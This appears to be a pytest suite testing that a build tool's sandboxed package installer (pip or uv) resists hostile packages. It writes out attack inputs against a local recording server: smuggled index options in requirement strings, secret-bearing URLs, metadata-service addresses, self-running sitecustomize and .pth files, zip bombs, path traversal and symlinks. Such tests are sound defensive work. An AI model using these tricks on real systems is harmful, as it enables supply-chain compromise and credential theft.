"""Attacks on what installs packages: the installer runs on the host, what it installs must not."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import resource
import stat
import subprocess
import sys
import tarfile
import threading
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from capsule_python import installer
from capsule_python.dependencies import Dependencies, named_dependencies
from capsule_python.packages import Packages, resolve
from capsule_python.tree import DiskTree

from capsule.build.downloads import HOSTS_VARIABLE
from capsule.build.pipeline import BuildHost
from capsule.errors import BuildError, Location
from capsule.frontend.spec import Source
from capsule.frontend.wheels.installers import find_installer, pip_of
from capsule.project.user_cache import CACHE_VARIABLE

SECRET = "hunter2-of-the-operator"


@dataclass
class Recorder:
    """A server on this machine that keeps what it was asked for, and serves files that a test puts there."""

    address: str
    host: str
    files: dict[str, bytes] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.requests.append(f"{self.path} {self.headers.get('Authorization', '')}".strip())
            content = made.files.get(self.path.partition("?")[0])
            self.send_response(404 if content is None else 200)
            kind = "text/html" if self.path.endswith("/") else "application/octet-stream"
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(content or b"")))
            self.end_headers()
            if self.command == "GET":
                self.wfile.write(content or b"")

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        host = f"127.0.0.1:{server.server_address[1]}"
        made = Recorder(f"http://{host}", host)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield made
        server.shutdown()


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of wheels that is the operator's only index; every other setting of this machine's is away."""
    folder = tmp_path / "operators-wheels"
    folder.mkdir()
    empty = tmp_path / "empty-index"
    empty.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    for name in [name for name in os.environ if name.startswith(("PIP_", "UV_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.setenv("PIP_FIND_LINKS", str(folder))
    monkeypatch.setenv("UV_FIND_LINKS", str(folder))
    monkeypatch.setenv("PIP_INDEX_URL", empty.as_uri())
    monkeypatch.setenv("UV_DEFAULT_INDEX", empty.as_uri())
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    return folder


def python_with_pip() -> str | None:
    """This Python, or the one that its environment was made with, if it has pip."""
    for python in (sys.executable, f"{sys.base_prefix}/bin/python3"):
        command = [python, "-I", "-c", "import pip"]
        if subprocess.run(command, capture_output=True, check=False).returncode == 0:
            return python
    return None


@pytest.fixture(params=["uv", "pip"])
def tool(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Either installer."""
    found = find_installer()
    if request.param == "pip":
        python = python_with_pip()
        found = None if python is None else pip_of(python)
    if found is None or found.name != request.param:
        pytest.skip(f"{request.param} is not there")
    monkeypatch.setattr(installer, "find_installer", lambda: found)
    return str(request.param)


Resolve = Callable[..., "Packages | None"]


@pytest.fixture
def install(tmp_path: Path, index: Path, monkeypatch: pytest.MonkeyPatch) -> Resolve:
    """Installs requirements as a build does, into a cache of the test's own."""
    monkeypatch.setenv(CACHE_VARIABLE, str(tmp_path / "cache"))
    root = tmp_path / "project"
    root.mkdir(exist_ok=True)

    def run(*requirements: str) -> Packages | None:
        listed = Dependencies(tuple(sorted(requirements)), Location("main.py", 1), root=root)
        return resolve(listed, frozenset({"anything"}), BuildHost("python", lambda _: None))

    return run


def wheel(
    name: str,
    files: Mapping[str, bytes | str] | None = None,
    *,
    version: str = "1.0",
    requires: str = "",
    kinds: Mapping[str, int] | None = None,
) -> bytes:
    """A wheel, deflated. ``kinds`` gives files a mode, such as that of a symbolic link."""
    info = f"{name}-{version}.dist-info"
    content = {f"{name}.py": "", **(files or {})}
    content[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{requires}"
    content[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = ""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in content.items():
            data = text.encode() if isinstance(text, str) else text
            entry = zipfile.ZipInfo(path)
            entry.external_attr = ((kinds or {}).get(path, stat.S_IFREG | 0o644)) << 16
            entry.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(entry, data)
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record += f"{path},sha256={digest},{len(data)}\n"
        archive.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\n")
    return made.getvalue()


def sdist(name: str, canary: Path) -> bytes:
    """A source distribution that leaves a file when it is built, or when its metadata is made."""
    # A backend of its own, as some Pythons have no setuptools.
    backend = f"open({str(canary)!r}, 'w').close()\n"
    backend += "def build_wheel(*args, **options): raise SystemExit(1)\n"
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for file, text in {
            "backend.py": backend,
            "pyproject.toml": "[build-system]\nrequires = []\n"
            "build-backend = 'backend'\nbackend-path = ['.']\n",
            "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        }.items():
            entry = tarfile.TarInfo(f"{name}-1.0/{file}")
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return made.getvalue()


def by_address(recorder: Recorder, content: bytes, file: str = "helper-1.0-py3-none-any.whl") -> str:
    """A requirement by address and digest; the recorder has the file."""
    recorder.files[f"/{file}"] = content
    digest = hashlib.sha256(content).hexdigest()
    return f"{file.partition('-')[0]} @ {recorder.address}/{file}#sha256={digest}"


@pytest.mark.usefixtures("tool")
def test_a_wheel_by_address_that_requires_an_sdist_by_address(
    install: Resolve, recorder: Recorder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    recorder.files["/evil-1.0.tar.gz"] = sdist("evil", tmp_path / "ran")
    evil = f"Requires-Dist: evil @ {recorder.address}/evil-1.0.tar.gz\n"
    with pytest.raises(BuildError, match="requires something by address"):
        install(by_address(recorder, wheel("helper", requires=evil)))
    assert recorder.requests == ["/helper-1.0-py3-none-any.whl"], "and nothing transitive was asked for"
    assert not (tmp_path / "ran").exists()
    # What the attack would gain: the same wheel without the requirement is installed.
    packages = install(by_address(recorder, wheel("helper")))
    assert packages is not None
    assert [found.name for found in packages.distributions] == ["helper"]


@pytest.mark.parametrize("kind", ["sdist", "wheel", "git", "file"])
def test_a_wheel_of_an_index_that_requires_something_by_address(
    install: Resolve, recorder: Recorder, index: Path, tmp_path: Path, tool: str, kind: str
) -> None:
    """An index that takes such metadata gives the installer an address to go to while it still resolves."""
    recorder.files["/evil-1.0.tar.gz"] = sdist("evil", tmp_path / "ran")
    recorder.files["/evil-1.0-py3-none-any.whl"] = wheel("evil")
    (tmp_path / "evil-1.0.tar.gz").write_bytes(recorder.files["/evil-1.0.tar.gz"])
    address = {
        "sdist": f"{recorder.address}/evil-1.0.tar.gz",
        "wheel": f"{recorder.address}/evil-1.0-py3-none-any.whl",
        "git": f"git+{recorder.address}/evil.git",
        "file": (tmp_path / "evil-1.0.tar.gz").as_uri(),
    }[kind]
    evil = f"Requires-Dist: evil @ {address}\n"
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper", requires=evil))
    with pytest.raises(BuildError, match="could not install helper"):
        install("helper")
    assert recorder.requests == []
    assert not (tmp_path / "ran").exists()


@pytest.mark.usefixtures("tool")
def test_an_sdist_of_an_index_is_not_built(install: Resolve, index: Path, tmp_path: Path) -> None:
    (index / "evil-1.0.tar.gz").write_bytes(sdist("evil", tmp_path / "ran"))
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper", requires="Requires-Dist: evil\n"))
    for requirement in ("evil", "helper"):
        with pytest.raises(BuildError, match="could not install"):
            install(requirement)
    assert not (tmp_path / "ran").exists()


def test_a_pip_that_builds_all_the_same_can_start_no_process(index: Path, tmp_path: Path) -> None:
    """Whatever pip is told, by metadata or by a setting that slipped through: a build is a process."""
    from capsule.confinement.tool import no_processes
    from capsule.frontend.wheels import pip_alone

    python = python_with_pip()
    if python is None:
        pytest.skip("pip is not there")
    (tmp_path / "evil-1.0.tar.gz").write_bytes(sdist("evil", tmp_path / "ran"))
    options = ["install", "--no-deps", "--no-build-isolation", "--target", str(tmp_path / "t")]
    options.append(str(tmp_path / "evil-1.0.tar.gz"))
    for code in (no_processes().hex(), ""):
        command = [python, "-I", pip_alone.__file__, code, "none:", *options]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert done.returncode != 0
        assert not (tmp_path / "ran").exists(), done.stderr
    subprocess.run([python, "-I", "-m", "pip", *options], capture_output=True, check=False)
    assert (tmp_path / "ran").exists(), "pip alone builds it"


@pytest.mark.usefixtures("tool")
@pytest.mark.parametrize(
    "requirement",
    [
        "helper @ {address}/x.whl\f--index-url={address}/simple/",
        "helper @ {address}/x.whl\x0b--find-links={address}",
        "helper\n--extra-index-url={address}/simple/",
        "helper\u2028--extra-index-url={address}/simple/",
        "helper\x85--extra-index-url={address}/simple/",
        "helper --extra-index-url={address}/simple/",
        "helper ; --extra-index-url={address}/simple/",
        "helper @ {address}/helper-1.0-py3-none-any.whl --hash=sha256:00",
        "--index-url={address}/simple/",
        "-r {address}/requirements.txt",
        "{address}/helper-1.0-py3-none-any.whl",
        "./helper",
        "helper @ {address}/helper-1.0-py3-none-any.whl",
        "helper @ file:///etc/helper-1.0-py3-none-any.whl#sha256=" + "0" * 64,
        "helper @ git+{address}/helper.git",
        "other @ {address}/helper-1.0-py3-none-any.whl#sha256=" + "0" * 64,
    ],
)
def test_a_requirement_that_an_installer_would_read_as_more(
    tmp_path: Path, install: Resolve, recorder: Recorder, requirement: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    text = requirement.format(address=recorder.address)
    with pytest.raises(BuildError):
        install(text)
    source = Source(tmp_path / "project" / "main.py", tmp_path / "project", {"dependencies": [text]})
    with pytest.raises(BuildError):
        install(*named_dependencies(source, b"", DiskTree(source.root)).requirements)
    assert recorder.requests == []


@pytest.mark.usefixtures("tool")
@pytest.mark.parametrize(
    "address",
    [
        "{address}/${{AWS_SECRET_ACCESS_KEY}}/helper-1.0-py3-none-any.whl",
        "{address}/helper-1.0-py3-none-any.whl?${{AWS_SECRET_ACCESS_KEY}}",
        "http://${{AWS_SECRET_ACCESS_KEY}}.example.invalid/helper-1.0-py3-none-any.whl",
        "http://${{AWS_SECRET_ACCESS_KEY}}@{host}/helper-1.0-py3-none-any.whl",
        "http://$AWS_SECRET_ACCESS_KEY@{host}/helper-1.0-py3-none-any.whl",
        "{address}/%24%7BAWS_SECRET_ACCESS_KEY%7D/helper-1.0-py3-none-any.whl",
    ],
)
def test_a_variable_of_the_operator_in_an_address(
    install: Resolve, recorder: Recorder, address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, f"{recorder.host},*.invalid")
    url = address.format(address=recorder.address, host=recorder.host)
    for suffix in ("", "#sha256=" + "0" * 64):
        with pytest.raises(BuildError) as caught:
            install(f"helper @ {url}{suffix}")
        assert SECRET not in str(caught.value)
    assert not any(SECRET in request for request in recorder.requests)


@pytest.mark.usefixtures("tool")
def test_an_address_of_this_machine_or_of_a_private_network(install: Resolve, recorder: Recorder) -> None:
    """Named in a program, such as a cloud's metadata service; also behind a redirect."""
    for url in (recorder.address, "http://169.254.169.254", "http://10.0.0.1", "http://localhost"):
        with pytest.raises(BuildError, match="not of the public internet"):
            install(f"helper @ {url}/helper-1.0-py3-none-any.whl#sha256={'0' * 64}")
    assert recorder.requests == []


@pytest.mark.usefixtures("tool")
def test_another_wheel_than_the_one_whose_digest_is_named(
    install: Resolve, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    requirement = by_address(recorder, wheel("helper"))
    recorder.files["/helper-1.0-py3-none-any.whl"] = wheel("helper", {"more.py": ""})
    with pytest.raises(BuildError, match="not the wheel that is meant"):
        install(requirement)


TRAPS = {
    "uv.toml": 'index-url = "{address}/simple/"\nfind-links = ["{address}/links/"]\n',
    "pip.conf": "[global]\nindex-url = {address}/simple/\nextra-index-url = {address}/simple/\n",
    "pip.ini": "[global]\nindex-url = {address}/simple/\n",
    ".config/pip/pip.conf": "[global]\nextra-index-url = {address}/simple/\n",
    ".config/uv/uv.toml": 'extra-index-url = ["{address}/simple/"]\n',
    ".pip/pip.conf": "[global]\nextra-index-url = {address}/simple/\n",
    ".venv/pip.conf": "[global]\nextra-index-url = {address}/simple/\n",
    ".netrc": "machine 127.0.0.1 login a password b\n",
    ".python-version": "3.9\n",
    "requirements.txt": "--index-url {address}/simple/\n",
    "constraints.txt": "--index-url {address}/simple/\n",
    "setup.cfg": "[easy_install]\nindex_url = {address}/simple/\n",
    ".env": "PIP_INDEX_URL={address}/simple/\nUV_DEFAULT_INDEX={address}/simple/\n",
    "sitecustomize.py": "import urllib.request; urllib.request.urlopen('{address}/ran')\n",
    "usercustomize.py": "import urllib.request; urllib.request.urlopen('{address}/ran')\n",
    "pip.py": "import urllib.request; urllib.request.urlopen('{address}/ran')\n",
    "json.py": "import urllib.request; urllib.request.urlopen('{address}/ran')\n",
    "pyproject.toml": "[tool.uv]\nindex-url = '{address}/simple/'\nextra-index-url = ['{address}/simple/']\n"
    "[[tool.uv.index]]\nname = 'a'\nurl = '{address}/simple/'\ndefault = true\n"
    "[tool.uv.sources]\nhelper = {{ url = '{address}/helper-1.0-py3-none-any.whl' }}\n"
    "[tool.uv.pip]\nindex-url = '{address}/simple/'\n",
}


@pytest.mark.parametrize("place", ["project", "cache"])
def test_settings_for_installers_in_the_project(
    tmp_path: Path,
    install: Resolve,
    recorder: Recorder,
    index: Path,
    tool: str,
    place: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Every file in which a tool looks for settings; with ``cache``, the cache folder lies among them, too.

    The variables that name files are the operator's, but what they name lies in the project.
    """
    root = tmp_path / "project"
    for name, text in TRAPS.items():
        file = root / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text.format(address=recorder.address))
    if place == "cache":
        monkeypatch.setenv(CACHE_VARIABLE, str(root / "cache"))
        monkeypatch.setenv("XDG_CONFIG_HOME", str(root / ".config"))
        monkeypatch.setenv("PIP_CONFIG_FILE", str(root / "pip.conf"))
        monkeypatch.setenv("UV_CONFIG_FILE", str(root / "uv.toml"))
    monkeypatch.chdir(root)
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper"))
    packages = install("helper")
    assert packages is not None
    assert [found.name for found in packages.distributions] == ["helper"]
    assert recorder.requests == []


def test_settings_of_the_operator_count(
    tmp_path: Path, install: Resolve, recorder: Recorder, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """control: what a project is kept from is what the operator's own files do, credentials included."""
    home = Path(os.environ["HOME"])
    named = recorder.address.replace("://", "://user:word@")
    (home / ".config/pip").mkdir(parents=True)
    (home / ".config/uv").mkdir(parents=True)
    (home / ".config/pip/pip.conf").write_text(f"[global]\nextra-index-url = {named}/simple/\n")
    (home / ".config/uv/uv.toml").write_text(f'extra-index-url = ["{named}/simple/"]\n')
    recorder.files["/helper-1.0-py3-none-any.whl"] = wheel("helper")
    file = "helper-1.0-py3-none-any.whl"
    recorder.files["/simple/helper/"] = f'<!DOCTYPE html><a href="/{file}">{file}</a>'.encode()
    try:
        install("helper")
    except BuildError:
        assert recorder.requests, "the operator's index was not asked"
        raise
    basic = base64.b64encode(b"user:word").decode()
    assert f"/simple/helper/ Basic {basic}" in recorder.requests


@pytest.mark.usefixtures("tool")
def test_what_the_installer_could_read_and_send(
    tmp_path: Path, install: Resolve, recorder: Recorder, index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The credentials of a `.netrc`, which are for other programs, don't go to an index."""
    home = Path(os.environ["HOME"])
    (home / ".netrc").write_text("machine 127.0.0.1 login operator password hunter2\n")
    (home / ".netrc").chmod(0o600)
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"{recorder.address}/simple/")
    monkeypatch.setenv("UV_INDEX", f"{recorder.address}/simple/")
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper"))
    install("helper")
    assert "/simple/helper/" in recorder.requests, "the index was asked, without credentials"
    assert not any("Basic" in request for request in recorder.requests)


@pytest.mark.slow
def test_a_wheel_that_unpacks_to_gigabytes_of_zeros(
    install: Resolve, index: Path, tool: str, tmp_path: Path
) -> None:
    zeros = bytes(64 << 20)
    info = "helper-1.0.dist-info"
    with zipfile.ZipFile(index / "helper-1.0-py3-none-any.whl", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("helper/data.bin", "w", force_zip64=True) as entry:
            for _ in range(32):
                entry.write(zeros)
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", f"helper/data.bin,,\n{info}/METADATA,,\n{info}/RECORD,,\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(BuildError):
        install("helper")
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 100 << 10, f"the host grew by {grown >> 10} MiB"
    left = sum(path.stat().st_size for path in (tmp_path / "cache").rglob("*") if path.is_file())
    assert left < 1 << 20


def test_a_wheel_whose_files_are_larger_together_than_packages_may_be(
    install: Resolve, index: Path, tool: str
) -> None:
    files = {f"helper/{number}.txt": bytes(100 << 20) for number in range(4)}
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper", files))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(BuildError, match="more than 256 MB"):
        install("helper")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400 << 10


def test_a_wheel_of_very_many_files(
    install: Resolve, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    files = {f"helper/{number}": b"" for number in range(60_000)}
    with pytest.raises(BuildError, match=r"too many entries|more than 50,000 files"):
        install(by_address(recorder, wheel("helper", files)))


def test_an_installer_that_makes_very_many_files(
    install: Resolve, index: Path, tool: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("capsule.frontend.wheels.installers.FILES", 500)
    files = {f"helper/{number}": b"" for number in range(3000)}
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper", files))
    with pytest.raises(BuildError, match="more than 500 files"):
        install("helper")


@pytest.mark.parametrize(
    "name", ["../outside.py", "helper/../../outside.py", "/outside.py", "helper\\..\\..\\outside.py"]
)
def test_a_wheel_with_names_that_lead_out(
    install: Resolve, recorder: Recorder, index: Path, tool: str, name: str, tmp_path: Path
) -> None:
    for version, place in (("1.0", index), ("2.0", None)):
        content = wheel("helper", {name: "outside"}, version=version)
        if place is not None:
            (place / f"helper-{version}-py3-none-any.whl").write_bytes(content)
    try:
        packages = install("helper")
    except BuildError:
        packages = None
    if packages is not None:
        modules = [module.file for found in packages.distributions for module in found.modules]
        assert modules == ["helper.py"]
    found = [path for path in tmp_path.rglob("*outside.py") if path.is_file()]
    assert all(path.is_relative_to(tmp_path / "cache") for path in found)
    assert not Path("/outside.py").exists()


def test_names_that_lead_out_of_a_wheel_by_address(
    install: Resolve, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    for name in ("../outside.py", "/outside.py", "a\\..\\outside.py"):
        with pytest.raises(BuildError, match="an entry with the name"):
            install(by_address(recorder, wheel("helper", {name: ""})))


def test_a_symbolic_link_in_a_wheel(
    install: Resolve,
    recorder: Recorder,
    index: Path,
    tool: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "key").write_text(SECRET)
    files = {"helper/key.txt": str(tmp_path / "key"), "helper/up": "../../../.."}
    kinds = dict.fromkeys(files, stat.S_IFLNK | 0o777)
    content = wheel("helper", files, kinds=kinds)
    (index / "helper-1.0-py3-none-any.whl").write_bytes(content)
    try:
        packages = install("helper")
    except BuildError:
        packages = None
    for path in (tmp_path / "cache").rglob("*"):
        assert not path.is_symlink()
        assert not path.is_file() or SECRET not in path.read_text("latin-1")
    assert packages is None or packages.distributions[0].name == "helper"
    monkeypatch.setenv(HOSTS_VARIABLE, recorder.host)
    with pytest.raises(BuildError, match="a link or something else"):
        install(by_address(recorder, content))


@pytest.mark.usefixtures("tool")
def test_files_of_a_wheel_that_a_python_would_run_by_themselves(
    install: Resolve, index: Path, tmp_path: Path
) -> None:
    """`.pth`, `sitecustomize`, scripts: the site folder is no site of any Python of the host."""
    ran = f"import pathlib; pathlib.Path({str(tmp_path / 'ran')!r}).touch()"
    files = {
        "evil.pth": ran,
        "sitecustomize.py": ran,
        "usercustomize.py": ran,
        "helper-1.0.data/scripts/git": f"#!/bin/sh\ntouch {tmp_path / 'ran'}\n",
        "helper-1.0.data/data/evil.pth": ran,
        "helper-1.0.dist-info/entry_points.txt": "[console_scripts]\nnpm = helper:main\n",
    }
    (index / "helper-1.0-py3-none-any.whl").write_bytes(wheel("helper", files))
    (index / "next-1.0-py3-none-any.whl").write_bytes(wheel("next"))
    packages = install("helper")
    install("helper", "next")
    assert packages is not None
    left = {path.name for path in packages.site.rglob("*") if path.is_file()}
    assert not left & {"evil.pth", "git", "npm"}
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("command", [["explain", "--deny-all"], ["tasks"]])
def test_explaining_a_program_fetches_the_wheel_that_it_names_and_nothing_else(
    tmp_path: Path,
    index: Path,
    recorder: Recorder,
    project,
    cli,
    command: list[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    recorder.files["/evil-1.0.tar.gz"] = sdist("evil", tmp_path / "ran")
    evil = f"Requires-Dist: evil @ {recorder.address}/evil-1.0.tar.gz\n"
    requirement = by_address(recorder, wheel("helper", requires=evil))
    project.write(
        "main.py",
        f"# /// script\n# dependencies = [{json.dumps(requirement)}]\n# ///\n"
        "import helper\nfrom capsule import task\n\n@task()\ndef main():\n    return 1\n",
    )
    env = {HOSTS_VARIABLE: recorder.host}
    done = cli(*command, "main.py", env=env)
    assert done.status != 0
    assert "requires something by address" in done.stderr
    assert set(recorder.requests) == {"/helper-1.0-py3-none-any.whl"}
    assert not (tmp_path / "ran").exists()
    # Without the operator's word, not even that: this machine is no part of the public internet.
    recorder.requests.clear()
    done = cli(*command, "main.py", env={HOSTS_VARIABLE: "*"})
    assert "not of the public internet" in done.stderr
    assert recorder.requests == []
